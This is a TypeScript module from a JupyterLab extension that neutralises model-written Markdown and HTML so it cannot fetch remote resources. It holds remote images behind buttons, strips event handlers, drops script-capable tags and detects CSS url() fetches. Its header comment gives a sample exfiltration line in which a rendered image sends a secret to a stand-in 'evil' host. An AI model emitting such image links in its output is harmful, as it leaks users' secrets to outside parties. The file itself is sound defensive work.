/**
 * Model-written Markdown must not make the browser fetch anything by itself:
 * `![](https://evil/?k=<secret>)` sends the secret the moment it renders, and
 * JupyterLab's sanitizer keeps remote `<img src>`, `<video poster>` and CSS
 * `url()`. One table of what fetches serves two rewrites:
 *
 * - `makeInert` works on a tree rendered into an inert document (no browsing
 *   context, so nothing has loaded yet): remote images become "Load image
 *   from <host>" buttons, other fetching attributes are dropped. The panel
 *   then moves the tree into the page.
 * - `inertMarkdownSource` rewrites Markdown source for the cells inserted in
 *   the notebook, which JupyterLab renders itself: remote images become plain
 *   links marked "not loaded".
 *
 * No DOM global is touched at import time, so Node can unit test this file.
 */
import type { TranslationBundle } from '@jupyterlab/translation';

import { heldMediaText } from './heldMediaText';

/** `inline`: data: (no request); `local`: the Jupyter server; `remote`: anywhere else. */
export type UrlKind = 'inline' | 'local' | 'remote';

/** How an attribute can make the browser act without a click. */
export type AttributeRisk = 'url' | 'srcset' | 'style' | 'handler' | null;

/** Elements that fetch, run or restyle by their nature: never kept. */
export const DROPPED_TAGS: ReadonlySet<string> = new Set([
  'applet', 'base', 'embed', 'frame', 'frameset', 'iframe', 'link',
  'meta', 'noscript', 'object', 'portal', 'script', 'style', 'template'
]);

const URL_ATTRIBUTES = new Set([
  'archive', 'background', 'codebase', 'data', 'dynsrc', 'href', 'icon',
  'lowsrc', 'manifest', 'poster', 'profile', 'src', 'xlink:href'
]);

/** Where `href` is a link the user follows, not a resource the page loads. */
const LINK_TAGS = new Set(['a', 'area']);

export function attributeRisk(tag: string, attribute: string): AttributeRisk {
  const name = attribute.toLowerCase();
  if (name.startsWith('on')) {
    return 'handler';
  }
  if (name === 'style') {
    return 'style';
  }
  if (name === 'srcset' || name === 'imagesrcset') {
    return 'srcset';
  }
  if ((name === 'href' || name === 'xlink:href') && LINK_TAGS.has(tag.toLowerCase())) {
    return null;
  }
  return URL_ATTRIBUTES.has(name) ? 'url' : null;
}

// CSS escapes, entities and at-rules can spell url( in ways a pattern misses: any of them drops the style.
const CSS_FETCH =
  /[\\&@]|(?:url|image|image-set|src|element|cross-fade|paint|expression)\s*\(/i;

export function styleFetches(style: string): boolean {
  return CSS_FETCH.test(style);
}

/** The URLs of a srcset; over-splits (commas in data: URIs), which only errs on the blocking side. */
export function srcsetUrls(srcset: string): string[] {
  return srcset.split(/[\s,]+/).filter(token => token && !/^\d+(?:\.\d+)?[wxh]$/i.test(token));
}

// The URL parser strips leading/trailing C0 controls and spaces.
function trimUrl(raw: string): string {
  return raw.replace(/^[\x00-\x20]+|[\x00-\x20]+$/g, '');
}

/** Classify a URL of a rendered tree, resolved against the page's base URL. */
export function classifyUrl(raw: string, base: string): UrlKind {
  const value = trimUrl(raw);
  if (!value) {
    return 'local';
  }
  let url: URL;
  let page: URL;
  try {
    url = new URL(value, base);
    page = new URL(base);
  } catch {
    return 'remote';
  }
  if (url.protocol === 'data:') {
    return 'inline';
  }
  const web = url.protocol === 'http:' || url.protocol === 'https:' || url.protocol === 'blob:';
  return web && url.origin === page.origin ? 'local' : 'remote';
}

/**
 * Classify a URL written in Markdown or raw HTML source, where the page's
 * origin is unknown: only plain relative paths count as local. Entities,
 * backslashes and tabs can turn a harmless-looking path into `//host`, so
 * they count as remote.
 */
export function classifySourceUrl(raw: string): UrlKind {
  const value = trimUrl(raw);
  if (!value) {
    return 'local';
  }
  if (/^data:/i.test(value)) {
    return 'inline';
  }
  if (/^[a-z][a-z0-9+.-]*:/i.test(value) || /^[\\/]{2}/.test(value)) {
    return 'remote';
  }
  return /[\\&\x00-\x1f\x7f]/.test(value) ? 'remote' : 'local';
}

function hostOf(url: string, base: string): string {
  try {
    return new URL(trimUrl(url), base).host || url.slice(0, 60);
  } catch {
    return url.slice(0, 60);
  }
}

function absolute(url: string, base: string): string {
  try {
    return new URL(trimUrl(url), base).href;
  } catch {
    return url;
  }
}

// ================================================================ rendered trees

export interface IInertOptions {
  /** The page's base URL (`document.baseURI`): same-origin URLs load. */
  base: string;
  /** Absolute URLs the user already chose to load. */
  allowed?: ReadonlySet<string>;
  /** The user clicked a placeholder: these absolute URLs now load. */
  onLoad?: (urls: string[]) => void;
  trans: TranslationBundle; // the placeholder's words
}

interface IHeld {
  element: Element;
  attributes: [string, string][];
}

const MEDIA_NOUN: Record<string, string> = {
  img: 'image',
  input: 'image',
  picture: 'image',
  video: 'video',
  audio: 'audio'
};

/** The element a placeholder stands in for: the media element, or its <picture>. */
function mediaRoot(element: Element): Element | null {
  const tag = element.localName.toLowerCase();
  const parent = element.parentElement;
  const parentTag = parent ? parent.localName.toLowerCase() : '';
  if (parent && parentTag === 'picture') {
    return parent;
  }
  if (tag === 'source' || tag === 'track') {
    return parent && MEDIA_NOUN[parentTag] ? parent : null;
  }
  return MEDIA_NOUN[tag] ? element : null;
}

function placeholder(root: Element, held: IHeld[], urls: string[], options: IInertOptions): Element {
  const doc = root.ownerDocument;
  const button = doc.createElement('button');
  const noun = MEDIA_NOUN[root.localName.toLowerCase()] ?? 'image';
  const hosts = Array.from(new Set(urls.map(url => hostOf(url, options.base))));
  button.setAttribute('type', 'button');
  button.setAttribute('class', 'cw-held-media');
  button.setAttribute('data-cw-held', noun);
  const alt = root.getAttribute('alt');
  const words = heldMediaText(options.trans, noun, hosts, urls);
  button.setAttribute('title', alt ? `${alt}\n${words.title}` : words.title);
  button.textContent = words.text;
  button.addEventListener('click', event => {
    // The placeholder may sit inside a link: loading must not also follow it.
    event.preventDefault();
    event.stopPropagation();
    // Insert first: an element adopted from the inert document must be live before it may load.
    button.replaceWith(root);
    for (const { element, attributes } of held) {
      for (const [name, value] of attributes) {
        element.setAttribute(name, value);
      }
    }
    const media = root as unknown as { load?: () => void };
    if (root.localName.toLowerCase() !== 'img' && typeof media.load === 'function') {
      media.load();
    }
    options.onLoad?.(urls.map(url => absolute(url, options.base)));
  });
  return button;
}

/**
 * Make a rendered tree (in an inert document) safe to put in the page:
 * dangerous elements and event handlers go, CSS that fetches goes, remote
 * media wait behind a "Load … from <host>" button. Returns how many
 * placeholders it made.
 */
export function makeInert(root: Element, options: IInertOptions): number {
  const allowed = options.allowed ?? new Set<string>();
  const byRoot = new Map<Element, { held: IHeld[]; urls: string[] }>();
  for (const element of Array.from(root.querySelectorAll('*'))) {
    if (!root.contains(element)) {
      continue; // inside an element dropped already
    }
    const tag = element.localName.toLowerCase();
    if (DROPPED_TAGS.has(tag)) {
      element.remove();
      continue;
    }
    const held: [string, string][] = [];
    const remote: string[] = [];
    for (const { name, value } of Array.from(element.attributes)) {
      const risk = attributeRisk(tag, name);
      if (risk === 'handler' || (risk === 'style' && styleFetches(value))) {
        element.removeAttribute(name);
        continue;
      }
      if (risk !== 'url' && risk !== 'srcset') {
        continue;
      }
      const urls = (risk === 'url' ? [value] : srcsetUrls(value)).filter(
        url => classifyUrl(url, options.base) === 'remote' && !allowed.has(absolute(url, options.base))
      );
      if (urls.length) {
        held.push([name, value]);
        remote.push(...urls);
        element.removeAttribute(name);
      }
    }
    if (!held.length) {
      continue;
    }
    element.setAttribute('data-cw-held', 'true');
    const media = mediaRoot(element);
    if (!media) {
      continue; // a background or similar: dropped, nothing to offer
    }
    const group = byRoot.get(media) ?? { held: [], urls: [] };
    group.held.push({ element, attributes: held });
    group.urls.push(...remote);
    byRoot.set(media, group);
  }
  for (const [media, group] of byRoot) {
    media.replaceWith(placeholder(media, group.held, group.urls, options));
  }
  return byRoot.size;
}

// ================================================================ Markdown source

function escapeHtml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');
}

/** Text for inside raw HTML that Markdown must not read as syntax either. */
function escapeText(text: string): string {
  return escapeHtml(text).replace(/[\\[\]!`*_$]/g, c => `&#${c.charCodeAt(0)};`);
}

function decodeEntities(text: string): string {
  return text.replace(/&(#x[0-9a-f]+|#[0-9]+|amp|lt|gt|quot|apos);/gi, (whole, code: string) => {
    const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
    const lower = code.toLowerCase();
    if (named[lower]) {
      return named[lower];
    }
    const n = lower.startsWith('#x') ? parseInt(lower.slice(2), 16) : parseInt(lower.slice(1), 10);
    return n > 0 && n < 0x110000 ? String.fromCodePoint(n) : whole;
  });
}

interface ITagAttribute {
  name: string;
  value: string;
  raw: string;
}

interface ITag {
  name: string;
  attributes: ITagAttribute[];
  end: number;
  selfClosing: boolean;
}

const SPACE = /[\t\n\f\r ]/;

/** Read a start tag at `start` (a `<` before a letter) as the HTML tokenizer does. */
function readTag(s: string, start: number): ITag {
  let j = start + 1;
  while (j < s.length && !/[\t\n\f\r />]/.test(s[j])) {
    j++;
  }
  const name = s.slice(start + 1, j).toLowerCase();
  const attributes: ITagAttribute[] = [];
  let selfClosing = false;
  for (;;) {
    while (j < s.length && (SPACE.test(s[j]) || s[j] === '/')) {
      selfClosing = s[j] === '/';
      j++;
    }
    if (j >= s.length) {
      return { name, attributes, end: j, selfClosing: false };
    }
    if (s[j] === '>') {
      return { name, attributes, end: j + 1, selfClosing };
    }
    selfClosing = false;
    const from = j;
    j++; // a first "=" belongs to the name
    while (j < s.length && !/[\t\n\f\r />=]/.test(s[j])) {
      j++;
    }
    const attribute = s.slice(from, j).toLowerCase();
    let k = j;
    while (k < s.length && SPACE.test(s[k])) {
      k++;
    }
    let value = '';
    if (s[k] === '=') {
      k++;
      while (k < s.length && SPACE.test(s[k])) {
        k++;
      }
      const quote = s[k];
      if (quote === '"' || quote === "'") {
        const close = s.indexOf(quote, k + 1);
        const stop = close === -1 ? s.length : close;
        value = s.slice(k + 1, stop);
        k = close === -1 ? s.length : close + 1;
      } else {
        const begin = k;
        while (k < s.length && !SPACE.test(s[k]) && s[k] !== '>') {
          k++;
        }
        value = s.slice(begin, k);
      }
      j = k;
    }
    attributes.push({ name: attribute, value: decodeEntities(value), raw: s.slice(from, j) });
  }
}

/**
 * A link standing for a remote image: `<a href>` works in Markdown and in
 * HTML blocks. No quote in it, so it cannot end an attribute value it lands in.
 */
function imageLink(url: string, alt: string): string {
  const label = `image${alt ? `: ${alt}` : ''} (not loaded)`;
  const target = trimUrl(url);
  const href = target.replace(/[&<>"'`=\s]/g, c => `&#${c.charCodeAt(0)};`);
  return /^https?:\/\//i.test(target)
    ? `<a href=${href}>${escapeText(label)}</a>`
    : `<span>${escapeText(`${label} ${target}`)}</span>`;
}

/**
 * Rewrite raw HTML tags: dangerous elements show as text, event handlers and
 * fetching CSS go, a remote `<img>` becomes a link, other remote sources are
 * dropped. Every `<letter` is examined, also inside attribute values, since
 * Markdown may not read an enclosing tag the way this scan does.
 */
export function inertHtmlSource(s: string): string {
  let out = '';
  let i = 0;
  while (i < s.length) {
    const lt = s.indexOf('<', i);
    if (lt === -1) {
      out += s.slice(i);
      break;
    }
    out += s.slice(i, lt);
    i = lt + 1;
    if (!/[A-Za-z]/.test(s[lt + 1] ?? '')) {
      out += '<';
      continue;
    }
    const tag = readTag(s, lt);
    if (DROPPED_TAGS.has(tag.name)) {
      out += '&lt;';
      continue;
    }
    let changed = false;
    const remote: string[] = [];
    const kept: string[] = [];
    for (const attribute of tag.attributes) {
      const risk = attributeRisk(tag.name, attribute.name);
      const urls =
        risk === 'url' ? [attribute.value] : risk === 'srcset' ? srcsetUrls(attribute.value) : [];
      const fetches = urls.filter(url => classifySourceUrl(url) === 'remote');
      if (risk === 'handler' || (risk === 'style' && styleFetches(attribute.value)) || fetches.length) {
        changed = true;
        remote.push(...fetches);
      } else {
        kept.push(attribute.raw);
      }
    }
    if (!changed) {
      out += '<';
      continue; // unchanged: the scan goes on inside it
    }
    i = tag.end;
    const src = tag.attributes.find(a => a.name === 'src');
    if (tag.name === 'img' && src && remote.includes(src.value)) {
      const alt = tag.attributes.find(a => a.name === 'alt')?.value ?? '';
      out += imageLink(src.value, alt);
      continue;
    }
    // Same value for the browser; no tag for a Markdown reader that sees text here.
    const attributes = kept.map(raw => ' ' + raw.replace(/</g, '&lt;')).join('');
    out += `<${tag.name}${attributes}${tag.selfClosing ? ' /' : ''}>`;
  }
  return out;
}

// The only image form Markdown and this scan are sure to read alike: a plain
// label, a plain destination, an optional plain title.
const PLAIN_IMAGE = /^!\[([^[\]`\\\n]*)\]\([ \t]*([^\s()<>[\]\\&"'`]*)(?:[ \t]+"[^"\\\n]*")?[ \t]*\)/;

// A looser reading, only to write a tidy link for an image that is not kept.
const LOOSE_IMAGE =
  /^!\[((?:[^[\]\\\n]|\\.|\[[^[\]\n]*\])*)\]\([ \t]*(<[^<>\n]*>|(?:[^\s()]|\([^\s()]*\))+)(?:[ \t]+("[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*\)/;

const REFERENCE_IMAGE = /^!\[([^[\]\\\n]+)\](?:\[([^[\]\\\n]*)\])?(?![[(])/;

function normalizeLabel(label: string): string {
  return label.trim().replace(/\s+/g, ' ').toLowerCase();
}

/**
 * Rewrite Markdown images: every `![` that is not a plain image of a local
 * file or data: URI becomes a link (`[image: alt](url) *(not loaded)*`) or,
 * when its form is unclear, escaped text (`!\[`), so no `![` is left that
 * could load from elsewhere, whatever form it had.
 */
export function inertImageSource(s: string): string {
  const definitions = new Set<string>();
  for (const match of s.matchAll(/^ {0,3}\[([^[\]\n]+)\]:/gm)) {
    definitions.add(normalizeLabel(match[1]));
  }
  let out = '';
  let i = 0;
  while (i < s.length) {
    const k = s.indexOf('![', i);
    if (k === -1) {
      out += s.slice(i);
      break;
    }
    out += s.slice(i, k);
    const rest = s.slice(k);
    const plain = PLAIN_IMAGE.exec(rest);
    if (plain && classifySourceUrl(plain[2]) !== 'remote') {
      out += plain[0];
      i = k + plain[0].length;
      continue;
    }
    // A "!" just before would make "![" again.
    const gap = out.endsWith('!') ? ' ' : '';
    const loose = LOOSE_IMAGE.exec(rest);
    // A nested "![" is left to the scan, which goes on inside the label.
    if (loose && !loose[0].slice(2).includes('![')) {
      const title = loose[3] ? ` ${loose[3]}` : '';
      out += `${gap}[image: ${loose[1]}](${loose[2]}${title}) *(not loaded)*`;
      i = k + loose[0].length;
      continue;
    }
    // `![a][r]`, `![r][]` and `![r]` name a definition: the link keeps naming it.
    const reference = REFERENCE_IMAGE.exec(rest);
    const label = reference ? reference[2] || reference[1] : '';
    if (reference && definitions.has(normalizeLabel(label))) {
      out += `${gap}[image: ${reference[1]}][${label}] *(not loaded)*`;
      i = k + reference[0].length;
    } else {
      out += '!\\['; // an escaped bracket opens nothing: the text shows as written
      i = k + 2;
    }
  }
  return out;
}

/** Markdown source that renders without fetching anything from elsewhere. */
export function inertMarkdownSource(source: string): string {
  return inertHtmlSource(inertImageSource(inertHtmlSource(source)));
}
